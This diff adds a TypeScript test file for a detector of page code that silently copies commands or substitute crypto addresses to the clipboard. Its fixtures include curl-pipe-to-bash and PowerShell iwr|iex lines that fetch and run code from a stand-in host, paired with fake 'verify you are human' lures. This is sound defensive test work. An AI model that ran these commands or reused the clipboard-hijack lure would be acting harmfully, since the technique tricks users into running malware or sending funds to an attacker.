@@ -1,0 +1,56 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { hiddenCopies } from './copiedTexts.ts'
+import { unfold } from './obfuscation.ts'
+
+const SHOWN = '0x00000000000000000000000000000000000000aa'
+const OTHER = '0x00000000000000000000000000000000000000bb'
+const COMMAND = 'curl -s https://drop.test/i.sh | bash'
+
+describe('what code copies and the page does not show', () => {
+  const cases: [what: string, code: string, text: string, ...kinds: string[]][] = [
+    ['a command', `navigator.clipboard.writeText('${COMMAND}')`, 'Verify you are human', 'copies-hidden-command'],
+    [
+      'a command with quotation marks',
+      String.raw`navigator.clipboard.writeText("powershell -c \"iwr https://drop.test/v | iex\"")`,
+      'Press Windows + R',
+      'copies-hidden-command',
+    ],
+    [
+      'a command in encoded code',
+      `eval(atob('${btoa(`b.onclick = () => navigator.clipboard.writeText('${COMMAND}')`)}'))`,
+      '',
+      'copies-hidden-command',
+    ],
+    [
+      'another address, put together',
+      `navigator.clipboard.writeText(['${OTHER.slice(0, 20)}', '${OTHER.slice(20)}'].join(''))`,
+      `Send to ${SHOWN}`,
+      'copies-other-address',
+    ],
+    [
+      'another address by a field',
+      `field.value = '${OTHER}'; field.select(); document.execCommand('copy')`,
+      `Send to ${SHOWN}`,
+      'copies-other-address',
+    ],
+    // Honest.
+    ['a command that is shown', `navigator.clipboard.writeText('${COMMAND}')`, `Run ${COMMAND} in a terminal`],
+    [
+      'a command that is drawn',
+      `pre.append('${COMMAND}'); copy = () => navigator.clipboard.writeText('${COMMAND}')`,
+      '',
+    ],
+    ['the shown address', `navigator.clipboard.writeText('${SHOWN}')`, `Send to ${SHOWN}`],
+    ['an address where none is shown', `navigator.clipboard.writeText('${SHOWN}')`, 'Donate'],
+    ['a contract in code', `const token = '${OTHER}'; navigator.clipboard.writeText(link)`, `Send to ${SHOWN}`],
+  ]
+  for (const [what, code, text, ...expected] of cases) {
+    it(`${what}: ${expected.join(', ') || 'nothing'}`, () => {
+      assert.deepEqual(
+        hiddenCopies([unfold('inline', code)], text).map(({ kind }) => kind),
+        expected,
+      )
+    })
+  }
+})
